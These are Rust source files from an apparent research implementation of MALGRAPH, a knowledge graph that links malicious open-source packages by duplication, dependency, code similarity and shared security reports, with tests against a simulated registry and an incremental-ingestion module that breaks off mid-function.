use oss_types::{Ecosystem, PackageId, Sha256, SimTime, SourceId};
use std::fmt;

/// The four MALGRAPH relations (paper §III-A).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Relation {
    /// Two nodes are the same package seen through different sources.
    Duplicated,
    /// One malicious package depends on another (directed).
    Dependency,
    /// Two packages share a similar code base (embedding cluster).
    Similar,
    /// Two packages co-occur in the same security report.
    Coexisting,
}

impl Relation {
    /// All four relations in Table II order.
    pub const ALL: [Relation; 4] = [
        Relation::Duplicated,
        Relation::Dependency,
        Relation::Similar,
        Relation::Coexisting,
    ];

    /// Subgraph abbreviation used by the paper (DG / DeG / SG / CG).
    pub fn group_label(self) -> &'static str {
        match self {
            Relation::Duplicated => "DG",
            Relation::Dependency => "DeG",
            Relation::Similar => "SG",
            Relation::Coexisting => "CG",
        }
    }
}

impl fmt::Display for Relation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.group_label())
    }
}

/// One MALGRAPH node: a malicious package *as collected from one source*.
///
/// The paper stores seven attributes per node (§III-A): ID, package name,
/// package version, source, hash value, path, and ecosystem. Name,
/// version and ecosystem live inside [`PackageId`]; the node id itself is
/// the graph-store index.
#[derive(Debug, Clone, PartialEq)]
pub struct MalNode {
    /// Registry identity (name + version + ecosystem).
    pub package: PackageId,
    /// The online source this node was collected from.
    pub source: SourceId,
    /// When the source disclosed it.
    pub disclosed: SimTime,
    /// Artifact signature; `None` while the package is unavailable.
    pub hash: Option<Sha256>,
    /// Storage path of the archive in the corpus layout.
    pub path: String,
    /// Whether this node is the package's *primary* node — the one that
    /// carries the package-level relations (dependency / similar /
    /// co-existing). Secondary nodes attach via duplicated edges.
    pub primary: bool,
}

impl MalNode {
    /// The node's ecosystem.
    pub fn ecosystem(&self) -> Ecosystem {
        self.package.ecosystem()
    }

    /// Whether the artifact is available in the corpus.
    pub fn available(&self) -> bool {
        self.hash.is_some()
    }

    /// Corpus storage path for a package/source pair, e.g.
    /// `corpus/pypi/pygrata/0.1.0/mal-pypi.tar.gz`.
    pub fn storage_path(package: &PackageId, source: SourceId) -> String {
        format!(
            "corpus/{}/{}/{}/{}.tar.gz",
            package.ecosystem().slug(),
            package.name(),
            package.version(),
            source.slug()
        )
    }
}

impl fmt::Display for MalNode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} [{}]", self.package, self.source)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relations_have_paper_labels() {
        assert_eq!(Relation::Duplicated.group_label(), "DG");
        assert_eq!(Relation::Dependency.group_label(), "DeG");
        assert_eq!(Relation::Similar.group_label(), "SG");
        assert_eq!(Relation::Coexisting.group_label(), "CG");
    }

    #[test]
    fn storage_path_layout() {
        let id: PackageId = "pypi/pygrata@0.1.0".parse().unwrap();
        assert_eq!(
            MalNode::storage_path(&id, SourceId::Phylum),
            "corpus/pypi/pygrata/0.1.0/phylum.tar.gz"
        );
    }

    #[test]
    fn availability_follows_hash() {
        let id: PackageId = "npm/x@1.0.0".parse().unwrap();
        let mut node = MalNode {
            package: id.clone(),
            source: SourceId::Socket,
            disclosed: SimTime::EPOCH,
            hash: None,
            path: MalNode::storage_path(&id, SourceId::Socket),
            primary: true,
        };
        assert!(!node.available());
        node.hash = Some(Sha256::digest(b"artifact"));
        assert!(node.available());
        assert_eq!(node.ecosystem(), Ecosystem::Npm);
    }
}
