//! MALGRAPH construction from a collected corpus (paper §III).

use crate::analysis::index::AnalysisIndex;
use crate::node::{MalNode, Relation};
use crate::similarity::{similar_pairs, SimilarityConfig, SimilarityOutput};
use crawler::{CollectedDataset, CollectedPackage, CollectedReport};
use graphstore::index::{AdjacencyIndex, ComponentIndex};
use graphstore::{NodeId, PropertyGraph};
use oss_types::{Ecosystem, PackageId};
use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex, OnceLock};

/// Options of the graph builder.
#[derive(Debug, Clone, Default)]
pub struct BuildOptions {
    /// Similarity-pipeline configuration.
    pub similarity: SimilarityConfig,
}

/// The MALGRAPH knowledge graph.
///
/// Nodes are package/source pairs ([`MalNode`]); edges carry one of the
/// four [`Relation`]s. Symmetric relations (duplicated / similar /
/// co-existing) are stored as directed pairs, dependency edges point from
/// the dependent package to its dependency.
#[derive(Debug)]
pub struct MalGraph {
    /// The underlying property graph.
    pub graph: PropertyGraph<MalNode, Relation>,
    pub(crate) primary: HashMap<PackageId, NodeId>,
    /// Similarity diagnostics per ecosystem (chosen k, schedule trace).
    /// `Arc` so the incremental ingestion path can share one output
    /// between its per-ecosystem memo and the graph without deep-copying
    /// millions of pairs every window.
    pub similarity_diagnostics: Vec<(Ecosystem, Arc<SimilarityOutput>)>,
    /// Lazily-built per-relation component indexes, in [`Relation::ALL`]
    /// order — all built in one adjacency traversal on the first
    /// component query (the similarity relation alone carries tens of
    /// millions of directed edges, so the traversal, not the union-find,
    /// dominates). The graph is immutable between queries — the one
    /// mutation path, [`MalGraph::apply_delta`], holds `&mut self` and
    /// explicitly invalidates (or incrementally extends) every snapshot
    /// before queries resume — so a snapshot taken at first query stays
    /// valid until the next delta.
    pub(crate) indexes: OnceLock<Vec<ComponentIndex>>,
    /// A Duplicated component index carried across deltas: the
    /// duplicated relation is append-only under ingestion (cliques stay
    /// within one package's nodes), so instead of discarding its index
    /// with the rest, [`MalGraph::apply_delta`] extends it in place and
    /// parks it here for the next [`MalGraph::component_index`] build to
    /// re-adopt. Behind a `Mutex` because the re-adoption happens inside
    /// the `OnceLock` initialiser, which runs under `&self`.
    pub(crate) dup_carry: Mutex<Option<ComponentIndex>>,
    /// Lazily-built per-relation CSR adjacency snapshots, in
    /// [`Relation::ALL`] order. Built per relation on demand — only the
    /// sparse co-existing relation is ever traversed, and materialising
    /// the similarity CSR would cost hundreds of megabytes.
    pub(crate) adjacency: [OnceLock<AdjacencyIndex>; Relation::ALL.len()],
    /// Lazily-computed Table-II statistics, in [`Relation::ALL`] order,
    /// gathered for all relations in a single edge scan.
    pub(crate) stats: OnceLock<Vec<graphstore::stats::RelationStats>>,
    /// Lazily-built corpus lookup structures shared by the RQ passes.
    pub(crate) analysis: OnceLock<AnalysisIndex>,
}

/// Position of `relation` in [`Relation::ALL`].
pub(crate) fn relation_slot(relation: Relation) -> usize {
    Relation::ALL
        .iter()
        .position(|r| *r == relation)
        .expect("relation listed in ALL")
}

impl MalGraph {
    /// The primary node of a package, if the package is in the corpus.
    pub fn primary_node(&self, id: &PackageId) -> Option<NodeId> {
        self.primary.get(id).copied()
    }

    /// Number of distinct packages (primary nodes).
    pub fn package_count(&self) -> usize {
        self.primary.len()
    }

    /// The cached component index for one relation. The first query
    /// builds the indexes of *all* relations in a single adjacency
    /// traversal ([`ComponentIndex::build_many`]); `OnceLock` serialises
    /// concurrent first queries, so the parallel analysis harness shares
    /// one snapshot per relation. A Duplicated index parked by
    /// [`MalGraph::apply_delta`] is re-adopted instead of rebuilt — the
    /// incremental extension is byte-identical to a fresh build.
    pub fn component_index(&self, relation: Relation) -> &ComponentIndex {
        let indexes = self.indexes.get_or_init(|| {
            // Detached: which analysis section wins the OnceLock race is
            // scheduling-dependent, so the build must root its own stack
            // for the folded profile to stay thread-count-invariant.
            let _detached = obs::detached();
            let _span = obs::span!("analysis/index/components");
            let mut carried = self.dup_carry.lock().expect("carry lock poisoned").take();
            let fresh: Vec<Relation> = Relation::ALL
                .iter()
                .copied()
                .filter(|r| carried.is_none() || *r != Relation::Duplicated)
                .collect();
            obs::counter_add("analysis.index_builds", fresh.len() as u64);
            if carried.is_some() {
                obs::counter_add("analysis.index_carried", 1);
            }
            let mut built = ComponentIndex::build_many(&self.graph, &fresh).into_iter();
            let indexes: Vec<ComponentIndex> = Relation::ALL
                .iter()
                .map(|r| {
                    if *r == Relation::Duplicated && carried.is_some() {
                        carried.take().expect("checked above")
                    } else {
                        built.next().expect("one fresh index per remaining relation")
                    }
                })
                .collect();
            for index in &indexes {
                obs::counter_add("analysis.indexed_components", index.components().len() as u64);
            }
            indexes
        });
        &indexes[relation_slot(relation)]
    }

    /// The cached CSR adjacency snapshot for one relation, built on first
    /// use (each relation independently — traversal queries only run over
    /// the sparse relations, and a dense relation's CSR would dwarf the
    /// graph itself).
    pub fn adjacency(&self, relation: Relation) -> &AdjacencyIndex {
        self.adjacency[relation_slot(relation)].get_or_init(|| {
            let _detached = obs::detached();
            let _span = obs::span!("analysis/index/adjacency/{}", relation.group_label());
            obs::counter_add("analysis.adjacency_builds", 1);
            AdjacencyIndex::build(&self.graph, |l| *l == relation)
        })
    }

    /// Connected components of one relation (paper's subgraph groups) —
    /// identical to `self.graph.components(|l| *l == relation)`, served
    /// from the cached [`ComponentIndex`] after the first call.
    pub fn groups(&self, relation: Relation) -> &[Vec<NodeId>] {
        obs::counter_add("analysis.group_queries", 1);
        self.component_index(relation).components()
    }

    /// Table II row for one relation, from a cache computed for all
    /// relations in one edge scan (identical to a fresh
    /// [`graphstore::stats::RelationStats::compute`]). Deliberately does
    /// *not* force the component indexes: the statistics need no
    /// union-find.
    pub fn relation_stats(&self, relation: Relation) -> graphstore::stats::RelationStats {
        let stats = self.stats.get_or_init(|| {
            let _detached = obs::detached();
            let _span = obs::span!("analysis/index/stats");
            graphstore::stats::RelationStats::compute_many(&self.graph, &Relation::ALL)
        });
        stats[relation_slot(relation)].clone()
    }

    /// The corpus-side [`AnalysisIndex`], built on first use. The index
    /// binds to the first `dataset` passed in — callers must keep
    /// querying with the corpus the graph was built from (enforced by a
    /// package-count check on the index's dataset-taking methods).
    pub fn analysis_index(&self, dataset: &CollectedDataset) -> &AnalysisIndex {
        self.analysis.get_or_init(|| AnalysisIndex::new(dataset))
    }

    /// A graph with no nodes and no edges — the starting point of the
    /// incremental ingestion path ([`MalGraph::apply_delta`]).
    pub fn empty() -> MalGraph {
        MalGraph {
            graph: PropertyGraph::new(),
            primary: HashMap::new(),
            similarity_diagnostics: Vec::new(),
            indexes: OnceLock::new(),
            dup_carry: Mutex::new(None),
            adjacency: Default::default(),
            stats: OnceLock::new(),
            analysis: OnceLock::new(),
        }
    }
}

/// Stage 1: one node per package/source mention for each package of
/// `packages`, appended in order; the first mention is the package's
/// *primary* node. Shared by the one-shot builder (all packages) and
/// the incremental path (the delta's suffix).
pub(crate) fn emit_package_nodes(
    graph: &mut PropertyGraph<MalNode, Relation>,
    primary: &mut HashMap<PackageId, NodeId>,
    nodes_by_pkg: &mut Vec<Vec<NodeId>>,
    packages: &[CollectedPackage],
) {
    for pkg in packages {
        let mut nodes_of_pkg: Vec<NodeId> = Vec::new();
        for (i, &(source, disclosed)) in pkg.mentions.iter().enumerate() {
            let node = graph.add_node(MalNode {
                package: pkg.id.clone(),
                source,
                disclosed,
                hash: pkg.signature,
                path: MalNode::storage_path(&pkg.id, source),
                primary: i == 0,
            });
            if i == 0 {
                primary.insert(pkg.id.clone(), node);
            }
            nodes_of_pkg.push(node);
        }
        nodes_by_pkg.push(nodes_of_pkg);
    }
}

/// Stage 2: duplicated cliques over the nodes of each package. Returns
/// the number of (undirected) edges added.
pub(crate) fn emit_duplicated_edges(
    graph: &mut PropertyGraph<MalNode, Relation>,
    nodes_by_pkg: &[Vec<NodeId>],
) -> u64 {
    let mut duplicated_edges = 0u64;
    for nodes_of_pkg in nodes_by_pkg {
        for a in 0..nodes_of_pkg.len() {
            for b in (a + 1)..nodes_of_pkg.len() {
                graph.add_undirected_edge(nodes_of_pkg[a], nodes_of_pkg[b], Relation::Duplicated);
                duplicated_edges += 1;
            }
        }
    }
    duplicated_edges
}

/// Stage 3: dependency edges between malicious packages of the corpus
/// (legitimate dependencies are dropped). Returns the edge count.
pub(crate) fn emit_dependency_edges(
    graph: &mut PropertyGraph<MalNode, Relation>,
    primary: &HashMap<PackageId, NodeId>,
    packages: &[CollectedPackage],
) -> u64 {
    let mut by_name: HashMap<(Ecosystem, &str), Vec<&PackageId>> = HashMap::new();
    for pkg in packages {
        by_name
            .entry((pkg.id.ecosystem(), pkg.id.name().as_str()))
            .or_default()
            .push(&pkg.id);
    }
    // `PropertyGraph::has_edge` is a linear scan of the adjacency list;
    // probing it inside these nested loops is quadratic-times-degree on
    // large reports. A local seen-pair set gives the same dedup in O(1).
    let mut seen_dependency: HashSet<(NodeId, NodeId)> = HashSet::new();
    let mut dependency_edges = 0u64;
    for pkg in packages {
        let Some(archive) = &pkg.archive else {
            continue;
        };
        let from = primary[&pkg.id];
        for dep in &archive.dependencies {
            let Some(candidates) = by_name.get(&(pkg.id.ecosystem(), dep.as_str())) else {
                continue; // a legitimate dependency: dropped
            };
            for target in candidates {
                if **target == pkg.id {
                    continue;
                }
                let to = primary[*target];
                if seen_dependency.insert((from, to)) {
                    graph.add_edge(from, to, Relation::Dependency);
                    dependency_edges += 1;
                }
            }
        }
    }
    dependency_edges
}

/// Stage 4 (inputs): the per-ecosystem similarity jobs — `(ecosystem,
/// entries)` in `Ecosystem::ALL` order, ecosystems with fewer than two
/// available packages dropped. Entries are corpus-ordered, so under
/// append-only corpus growth a job's entry list only ever gains a
/// suffix — an unchanged length implies an unchanged list.
pub(crate) fn similarity_jobs(
    packages: &[CollectedPackage],
) -> Vec<(Ecosystem, Vec<(PackageId, &str)>)> {
    Ecosystem::ALL
        .iter()
        .map(|&eco| {
            let entries: Vec<(PackageId, &str)> = packages
                .iter()
                .filter(|p| p.id.ecosystem() == eco)
                .filter_map(|p| p.archive.as_ref().map(|a| (p.id.clone(), a.code.as_str())))
                .collect();
            (eco, entries)
        })
        .filter(|(_, entries)| entries.len() >= 2)
        .collect()
}

/// Stage 4 (apply): turns per-job similarity outputs into similar edges
/// (in job order, so the graph does not depend on which pipeline
/// finished first) and assembles the diagnostics. Returns them with the
/// edge count.
pub(crate) fn apply_similarity_outputs(
    graph: &mut PropertyGraph<MalNode, Relation>,
    primary: &HashMap<PackageId, NodeId>,
    jobs: &[(Ecosystem, Vec<(PackageId, &str)>)],
    outputs: Vec<Arc<SimilarityOutput>>,
) -> (Vec<(Ecosystem, Arc<SimilarityOutput>)>, u64) {
    let mut similarity_diagnostics = Vec::new();
    let mut similar_edges = 0u64;
    for ((eco, entries), out) in jobs.iter().zip(outputs) {
        // One primary lookup per entry instead of two per pair: the
        // similar relation carries millions of pairs per ecosystem, and
        // string-keyed `PackageId` hashing dominated this stage.
        let nodes: Vec<NodeId> = entries.iter().map(|(id, _)| primary[id]).collect();
        graph.add_undirected_edges(
            out.pairs.iter().map(|&(a, b)| (nodes[a], nodes[b])),
            Relation::Similar,
        );
        similar_edges += out.pairs.len() as u64;
        similarity_diagnostics.push((*eco, out));
    }
    (similarity_diagnostics, similar_edges)
}

/// Stage 5: co-existing cliques per report. Externally produced corpora
/// can name the same package twice in one report; deduping here keeps
/// the clique irreflexive (`add_undirected_edge` asserts a ≠ b) for
/// both `collect` and `import_json` inputs. Cross-report repeats are
/// deduped by the seen-pair set, replacing the `has_edge` linear scan.
pub(crate) fn emit_coexisting_edges(
    graph: &mut PropertyGraph<MalNode, Relation>,
    primary: &HashMap<PackageId, NodeId>,
    reports: &[CollectedReport],
) -> u64 {
    let mut seen_coexisting: HashSet<(NodeId, NodeId)> = HashSet::new();
    let mut coexisting_edges = 0u64;
    for report in reports {
        let mut in_report: HashSet<NodeId> = HashSet::new();
        let nodes: Vec<NodeId> = report
            .packages
            .iter()
            .filter_map(|id| primary.get(id).copied())
            .filter(|node| in_report.insert(*node))
            .collect();
        for a in 0..nodes.len() {
            for b in (a + 1)..nodes.len() {
                if seen_coexisting.insert((nodes[a], nodes[b])) {
                    seen_coexisting.insert((nodes[b], nodes[a]));
                    graph.add_undirected_edge(nodes[a], nodes[b], Relation::Coexisting);
                    coexisting_edges += 1;
                }
            }
        }
    }
    coexisting_edges
}

/// Builds MALGRAPH from a collected corpus.
///
/// The construction (paper §III-A):
/// 1. one node per package/source mention; the first mention is the
///    package's *primary* node;
/// 2. **duplicated** edges: clique over the nodes of the same package
///    (same artifact signature, or name+version when unavailable);
/// 3. **dependency** edges: metadata dependencies pointing at another
///    *malicious* package of the corpus (legitimate dependencies are
///    dropped);
/// 4. **similar** edges: the AST→embedding→K-Means pipeline per
///    ecosystem, over available packages;
/// 5. **co-existing** edges: clique over the packages named by the same
///    security report.
///
/// The stage bodies are shared with the incremental path
/// ([`MalGraph::apply_delta`]), which re-emits every edge stage over the
/// grown corpus in this exact order — that sharing, not a test, is what
/// makes the two paths structurally incapable of diverging.
pub fn build(dataset: &CollectedDataset, options: &BuildOptions) -> MalGraph {
    let _build_span = obs::span!("build");
    let mut graph: PropertyGraph<MalNode, Relation> = PropertyGraph::new();
    let mut primary: HashMap<PackageId, NodeId> = HashMap::new();

    // 1. One node per package/source mention.
    let stage = obs::span!("build/nodes");
    let mut nodes_by_pkg: Vec<Vec<NodeId>> = Vec::with_capacity(dataset.packages.len());
    emit_package_nodes(&mut graph, &mut primary, &mut nodes_by_pkg, &dataset.packages);
    obs::counter_add("build.nodes", graph.node_count() as u64);
    obs::counter_add("build.packages", primary.len() as u64);
    drop(stage);

    // 2. Duplicated cliques over the nodes of each package.
    let stage = obs::span!("build/duplicated");
    let duplicated_edges = emit_duplicated_edges(&mut graph, &nodes_by_pkg);
    obs::counter_add("build.edges_added{relation=duplicated}", duplicated_edges);
    drop(stage);

    // 3. Dependency edges between malicious packages.
    let stage = obs::span!("build/dependency");
    let dependency_edges = emit_dependency_edges(&mut graph, &primary, &dataset.packages);
    obs::counter_add("build.edges_added{relation=dependency}", dependency_edges);
    drop(stage);

    // 4. Similar edges per ecosystem. The per-ecosystem pipelines are
    // independent, so they run concurrently; joining and applying edges
    // in `Ecosystem::ALL` order keeps the graph deterministic regardless
    // of which pipeline finishes first.
    let stage = obs::span!("build/similar");
    let jobs = similarity_jobs(&dataset.packages);
    // Carry the span stack into the workers: the per-ecosystem spans fold
    // under build/similar exactly as they would run serially, so the
    // profile is identical at any worker count.
    let ctx = obs::current_context();
    let outputs: Vec<Arc<SimilarityOutput>> = crossbeam::thread::scope(|scope| {
        let handles: Vec<_> = jobs
            .iter()
            .map(|&(eco, ref entries)| {
                let similarity = &options.similarity;
                let ctx = &ctx;
                scope.spawn(move |_| {
                    let _attached = ctx.attach();
                    let _span = obs::span!("build/similar/ecosystem={}", eco.display_name());
                    similar_pairs(entries, similarity)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| Arc::new(h.join().expect("similarity worker must not panic")))
            .collect()
    })
    .expect("crossbeam scope");
    let (similarity_diagnostics, similar_edges) =
        apply_similarity_outputs(&mut graph, &primary, &jobs, outputs);
    obs::counter_add("build.edges_added{relation=similar}", similar_edges);
    drop(stage);

    // 5. Co-existing cliques per report.
    let stage = obs::span!("build/coexisting");
    let coexisting_edges = emit_coexisting_edges(&mut graph, &primary, &dataset.reports);
    obs::counter_add("build.edges_added{relation=coexisting}", coexisting_edges);
    drop(stage);

    MalGraph {
        graph,
        primary,
        similarity_diagnostics,
        indexes: OnceLock::new(),
        dup_carry: Mutex::new(None),
        adjacency: Default::default(),
        stats: OnceLock::new(),
        analysis: OnceLock::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn built() -> (World, CollectedDataset, MalGraph) {
        let world = World::generate(WorldConfig::small(31));
        let dataset = collect(&world);
        let graph = build(&dataset, &BuildOptions::default());
        (world, dataset, graph)
    }

    #[test]
    fn node_count_equals_mention_count() {
        let (world, _, graph) = built();
        assert_eq!(graph.graph.node_count(), world.mentions.len());
    }

    #[test]
    fn every_package_has_exactly_one_primary_node() {
        let (_, dataset, graph) = built();
        assert_eq!(graph.package_count(), dataset.packages.len());
        let primaries = graph
            .graph
            .nodes()
            .filter(|(_, n)| n.primary)
            .count();
        assert_eq!(primaries, dataset.packages.len());
    }

    #[test]
    fn duplicated_groups_are_multi_source_packages() {
        let (_, dataset, graph) = built();
        let dg = graph.groups(Relation::Duplicated);
        let multi = dataset
            .packages
            .iter()
            .filter(|p| p.mentions.len() >= 2)
            .count();
        assert_eq!(dg.len(), multi, "one DG per multi-source package");
        for group in dg {
            let first = &graph.graph.node(group[0]).package;
            assert!(
                group.iter().all(|&n| &graph.graph.node(n).package == first),
                "a DG must contain one package only"
            );
        }
    }

    #[test]
    fn dependency_edges_link_known_malicious_fronts() {
        let (world, _, graph) = built();
        let deg = graph.groups(Relation::Dependency);
        // The world always plans dependency campaigns; at least one front
        // and its library must both be in the corpus and linked.
        assert!(
            !deg.is_empty(),
            "dependency campaigns must produce DeG groups"
        );
        for group in deg {
            assert!(group.len() >= 2);
        }
        // Validate one edge against ground truth: the target of every
        // dependency edge is a dependency of the source.
        let mut checked = 0;
        for edge in graph.graph.edges().filter(|e| e.label == Relation::Dependency) {
            let from = graph.graph.node(edge.from);
            let to = graph.graph.node(edge.to);
            let truth = world
                .packages
                .iter()
                .find(|p| p.id == from.package)
                .expect("exists");
            assert!(truth.dependencies.contains(to.package.name()));
            checked += 1;
        }
        assert!(checked > 0);
    }

    #[test]
    fn similar_edges_only_between_available_packages() {
        let (_, dataset, graph) = built();
        for edge in graph.graph.edges().filter(|e| e.label == Relation::Similar) {
            let node = graph.graph.node(edge.from);
            let pkg = dataset.get(&node.package).expect("exists");
            assert!(pkg.is_available(), "{} is not available", node.package);
        }
    }

    #[test]
    fn similar_groups_are_dominated_by_true_campaigns() {
        let (world, _, graph) = built();
        let sg = graph.groups(Relation::Similar);
        assert!(!sg.is_empty(), "similar campaigns must produce SGs");
        // Majority label purity: most members of each sizable group share
        // the campaign that truly generated them.
        let mut pure = 0usize;
        let mut sized = 0usize;
        for group in sg.iter().filter(|g| g.len() >= 4) {
            sized += 1;
            let mut counts: HashMap<Option<registry_sim::CampaignIdx>, usize> = HashMap::new();
            for &n in group {
                let id = &graph.graph.node(n).package;
                let truth = world.packages.iter().find(|p| p.id == *id).expect("exists");
                *counts.entry(truth.campaign).or_default() += 1;
            }
            let max = counts.values().max().copied().unwrap_or(0);
            if max * 10 >= group.len() * 7 {
                pure += 1;
            }
        }
        assert!(sized > 0, "no sizable similar groups formed");
        assert!(
            pure * 10 >= sized * 6,
            "only {pure}/{sized} sizable SGs are campaign-pure"
        );
    }

    #[test]
    fn coexisting_groups_come_from_reports() {
        let (_, dataset, graph) = built();
        let cg = graph.groups(Relation::Coexisting);
        let multi_reports = dataset.reports.iter().filter(|r| r.packages.len() >= 2).count();
        assert!(!cg.is_empty());
        assert!(cg.len() <= multi_reports, "chained reports merge CGs");
    }

    #[test]
    fn table2_stats_have_symmetric_degrees() {
        let (_, _, graph) = built();
        for relation in Relation::ALL {
            let stats = graph.relation_stats(relation);
            assert!(
                (stats.avg_out_degree - stats.avg_in_degree).abs() < 1e-9
                    || relation == Relation::Dependency,
                "{relation}: asymmetric degrees"
            );
        }
        // Duplicated graph must be non-trivial.
        let dg = graph.relation_stats(Relation::Duplicated);
        assert!(dg.nodes > 0);
        assert!(dg.edges >= dg.nodes, "cliques have at least n edges (directed)");
    }

    #[test]
    fn duplicated_package_in_report_builds_without_panicking() {
        let (_, mut dataset, _) = built();
        // A report naming the same package twice used to trip the
        // irreflexivity assert in `add_undirected_edge`.
        let report = dataset
            .reports
            .iter_mut()
            .find(|r| !r.packages.is_empty())
            .expect("reports exist");
        let dup = report.packages[0].clone();
        report.packages.push(dup);
        let graph = build(&dataset, &BuildOptions::default());
        assert!(graph.package_count() > 0);
    }

    #[test]
    fn dependency_and_coexisting_edges_are_deduplicated() {
        let (_, _, graph) = built();
        for relation in [Relation::Dependency, Relation::Coexisting] {
            let edges: Vec<(NodeId, NodeId)> = graph
                .graph
                .edges()
                .filter(|e| e.label == relation)
                .map(|e| (e.from, e.to))
                .collect();
            let distinct: std::collections::HashSet<_> = edges.iter().copied().collect();
            assert_eq!(
                edges.len(),
                distinct.len(),
                "{relation:?} contains duplicate directed edges"
            );
        }
    }

    #[test]
    fn similarity_diagnostics_cover_major_ecosystems() {
        let (_, _, graph) = built();
        assert!(graph
            .similarity_diagnostics
            .iter()
            .any(|(eco, _)| *eco == Ecosystem::PyPI));
    }
}
