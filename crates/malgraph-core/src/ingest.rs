//! Incremental graph construction from corpus deltas (ISSUE 8).
//!
//! Continuous monitoring delivers the corpus as a sequence of
//! [`CorpusDelta`]s (see `crawler::windows`); [`MalGraph::apply_delta`]
//! folds each one into a live graph without a from-scratch rebuild. The
//! contract is *byte identity*: ingesting windows `0..n` one at a time
//! yields a graph, diagnostics and analysis output bitwise-identical to
//! one [`crate::build`] over the union corpus — the full rebuild stays
//! in the tree as the oracle, exactly like `AnalyzeMode::Uncached` and
//! `cluster::serial`.
//!
//! # What is incremental, what is recomputed
//!
//! Node emission is append-only: a delta's packages take the next node
//! ids, so the node table matches a one-shot build positionally. Edges
//! are *cleared and re-emitted* over the union through the very same
//! stage helpers `build` uses (`emit_duplicated_edges`, …, in the same
//! order), because dependency and co-existing edges between *old* nodes
//! can appear when a new package resolves a previously-legitimate
//! dependency name or a previously-unknown report member. Re-emission
//! of those stages is cheap (milliseconds at paper scale); the expense
//! lives in the similarity stage, which is where the caching goes:
//!
//! * per-ecosystem entry lists are corpus-ordered and append-only, so
//!   an unchanged length proves the list unchanged and the previous
//!   window's [`SimilarityOutput`] (behind an `Arc`, so reuse is a
//!   refcount bump) is reused outright;
//! * otherwise the pipeline re-runs through
//!   [`crate::similarity::similar_pairs_cached`], which parses and
//!   embeds only packages whose *source text* was never seen (republished
//!   byte-identical code hits the source memo) and decides the O(|c|²)
//!   refinement once per distinct-content vector group — bitwise-identical
//!   to the plain pipeline.
//!
//! # Cache invalidation (the PR7 `OnceLock`s)
//!
//! | cache                     | on `apply_delta`                        |
//! |---------------------------|-----------------------------------------|
//! | component indexes         | Duplicated: extended in place (append-only cliques) and parked in `dup_carry`; other relations: dropped |
//! | adjacency CSRs            | Duplicated: extended in place; others: dropped |
//! | Table-II stats            | dropped (single edge scan to rebuild)   |
//! | `AnalysisIndex`           | dropped (binds to the grown corpus)     |
//! | detector `SandboxCache`   | untouched — keyed by code content, so entries stay valid as the corpus grows |
//!
//! Every drop/extension increments an `ingest.*` counter, so stale-cache
//! regressions are observable, not silent.

use crate::build::{self, relation_slot, BuildOptions, MalGraph};
use crate::node::Relation;
use crate::similarity::{similar_pairs_cached, SimilarityCache, SimilarityOutput};
use crawler::{CollectedDataset, CorpusDelta};
use graphstore::NodeId;
use oss_types::{CrashPlan, CrashSignal, Ecosystem, SimTime};
use std::sync::Arc;

/// Per-ecosystem similarity memo carried across deltas. `pub(crate)` so
/// the checkpoint module can snapshot the memo (entry-list length + last
/// output) and rebuild it on restore; the embedding cache itself is
/// never persisted — a cold cache reproduces identical outputs.
#[derive(Debug, Default)]
pub(crate) struct EcoState {
    /// Embedding memo + collapse state for the cached pipeline.
    pub(crate) cache: SimilarityCache,
    /// Entry-list length at the last similarity run; since entry lists
    /// are append-only, an equal length proves the list unchanged.
    pub(crate) entries_len: usize,
    /// The output of the last similarity run over this ecosystem,
    /// shared with the graph's diagnostics (reuse is a refcount bump,
    /// not a multi-million-pair copy).
    pub(crate) output: Option<Arc<SimilarityOutput>>,
}

/// The mutable companion of an incrementally-built [`MalGraph`]: the
/// union corpus so far, the per-package node lists, and the
/// per-ecosystem similarity memos. One `IngestState` belongs to one
/// graph; start both from [`MalGraph::empty`] / [`IngestState::new`]
/// and feed every delta through [`MalGraph::apply_delta`].
#[derive(Debug)]
pub struct IngestState {
    pub(crate) dataset: CollectedDataset,
    pub(crate) nodes_by_pkg: Vec<Vec<NodeId>>,
    pub(crate) eco: Vec<EcoState>,
    pub(crate) windows: usize,
}

impl Default for IngestState {
    fn default() -> IngestState {
        IngestState::new()
    }
}

impl IngestState {
    /// Fresh state for an empty graph.
    pub fn new() -> IngestState {
        IngestState {
            dataset: CollectedDataset {
                packages: Vec::new(),
                reports: Vec::new(),
                website_count: 0,
                collect_time: SimTime::from_minutes(0),
                health: None,
            },
            nodes_by_pkg: Vec::new(),
            eco: Ecosystem::ALL.iter().map(|_| EcoState::default()).collect(),
            windows: 0,
        }
    }

    /// The union corpus ingested so far — equal, byte for byte, to the
    /// concatenation of every applied delta (pass this to the analysis
    /// passes alongside the graph).
    pub fn dataset(&self) -> &CollectedDataset {
        &self.dataset
    }

    /// Number of deltas applied.
    pub fn windows_applied(&self) -> usize {
        self.windows
    }
}

impl MalGraph {
    /// Folds one corpus delta into the graph; see the module docs for
    /// the identity contract and the invalidation matrix.
    pub fn apply_delta(
        &mut self,
        delta: &CorpusDelta,
        options: &BuildOptions,
        state: &mut IngestState,
    ) {
        self.apply_delta_with(delta, options, state, &CrashPlan::none())
            .expect("an unarmed crash plan never fires");
    }

    /// [`MalGraph::apply_delta`] with crash-fault injection: every stage
    /// boundary fires a named crash point through `crash`, and an armed
    /// point aborts the apply mid-flight with **no cleanup** — the graph
    /// and state are left exactly as the crash found them, the way a
    /// killed process leaves its checkpoint directory. Callers that
    /// receive the signal must discard both (the checkpointed driver
    /// does; recovery rebuilds them from disk).
    ///
    /// # Errors
    ///
    /// The [`CrashSignal`] of the armed crash point, if it fired during
    /// this delta.
    pub fn apply_delta_with(
        &mut self,
        delta: &CorpusDelta,
        options: &BuildOptions,
        state: &mut IngestState,
        crash: &CrashPlan,
    ) -> Result<(), CrashSignal> {
        let _span = obs::span!("ingest/delta");
        obs::counter_add("ingest.windows", 1);
        obs::counter_add("ingest.packages_added", delta.packages.len() as u64);
        obs::counter_add("ingest.reports_added", delta.reports.len() as u64);
        let from_pkg = state.dataset.packages.len();
        let from_node = self.graph.node_count();
        delta.apply_to(&mut state.dataset);

        // 1. Append nodes for the delta's packages: they take the next
